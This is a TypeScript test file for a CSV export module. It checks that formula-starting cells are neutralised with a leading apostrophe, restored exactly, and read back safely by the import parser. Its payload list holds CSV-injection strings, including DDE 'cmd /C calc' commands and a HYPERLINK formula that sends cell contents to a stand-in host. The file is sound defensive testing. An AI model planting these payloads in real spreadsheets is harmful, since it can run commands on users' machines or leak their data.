import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '$lib/import/formats/csv';
import { ok, RUNS, TIMEOUT } from '$lib/testing/property';
import { csvCell, csvFile } from './csv-cell';
import { FORMULA_STARTS, isFormula, neutralise, restore } from './neutralise';

/** Payloads from the OWASP CSV Injection page and the usual lists, and legitimate dashes. */
const PAYLOADS = [
  '=HYPERLINK("http://x?"&A1,"y")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '＝1+1',
  '＋1+1',
  '－1',
  '＠SUM(A1)',
  '\t=1',
  '\r=1',
  '=DDE("cmd";"/C calc";"!A0")',
  '-',
  '- a list'
];

describe('neutralise', () => {
  it.each(PAYLOADS)('neutralises %j and restores it', (payload) => {
    const cell = neutralise(payload);
    expect(cell).toBe(`'${payload}`);
    expect(isFormula(cell)).toBe(false);
    expect(restore(cell)).toBe(payload);
  });

  it('leaves text that is not a formula as it is', () => {
    for (const t of ['Kronstadt', 'Кронштадт', '1917-10-25', '', ' =1', "'x", "'", "''", '"=1"'])
      expect(neutralise(t)).toBe(t);
  });

  it('keeps a leading apostrophe of the value itself', () => {
    expect(restore(neutralise("'x"))).toBe("'x");
    expect(neutralise("'=1")).toBe("''=1");
    expect(restore("''=1")).toBe("'=1");
    expect(restore(neutralise("''-"))).toBe("''-");
    // An apostrophe before a formula character that we did not write cannot come from neutralise.
    expect(restore("'x")).toBe("'x");
  });

  it(
    'round-trips any text and never leaves a formula start',
    () => {
      const piece = fc.constantFrom(...FORMULA_STARTS, "'", 'a', ' ', '"', ',', '\n', 'К', '1');
      let neutralised = 0;
      fc.assert(
        fc.property(
          fc.oneof(
            fc.string(),
            fc.array(piece, { maxLength: 6 }).map((a) => a.join(''))
          ),
          (text) => {
            const cell = neutralise(text);
            if (cell !== text) neutralised++;
            ok(!isFormula(cell), 'formula start left', { text, cell });
            ok(restore(cell) === text, 'not restored', { text, cell });
          }
        ),
        { numRuns: RUNS, seed: 1905 }
      );
      expect(neutralised).toBeGreaterThan(RUNS / 10);
    },
    TIMEOUT
  );
});

describe('csvCell', () => {
  it('writes numbers as numbers: a negative longitude stays as it is', () => {
    expect(csvCell(-3.5)).toBe('-3.5');
    expect(csvCell(-0.000123)).toBe('-0.000123');
    expect(csvCell(12)).toBe('12');
    expect(() => csvCell(NaN)).toThrow('NaN');
  });

  it('quotes neutralised text and text with separators, quotes or line breaks', () => {
    expect(csvCell('=HYPERLINK("http://x?"&A1,"y")')).toBe(`"'=HYPERLINK(""http://x?""&A1,""y"")"`);
    expect(csvCell('-')).toBe(`"'-"`);
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('a\tb')).toBe('"a\tb"');
    expect(csvCell('Kronstadt')).toBe('Kronstadt');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(undefined)).toBe('');
  });

  it('gives a file whose every payload cell reads back, neutralised, through the import parser', () => {
    const text = csvFile(
      ['text', 'lon'],
      PAYLOADS.map((p, i) => [p, -i - 0.5])
    );
    expect(text.startsWith('\uFEFF')).toBe(true);
    const { header, rows } = parseCsv(text);
    expect(header).toEqual(['text', 'lon']);
    expect(rows.map((r) => r[0])).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(rows.every((r) => !isFormula(r[0]))).toBe(true);
    expect(rows.map((r) => restore(r[0]))).toEqual(PAYLOADS);
    expect(rows.map((r) => Number(r[1]))).toEqual(PAYLOADS.map((_, i) => -i - 0.5));
  });
});
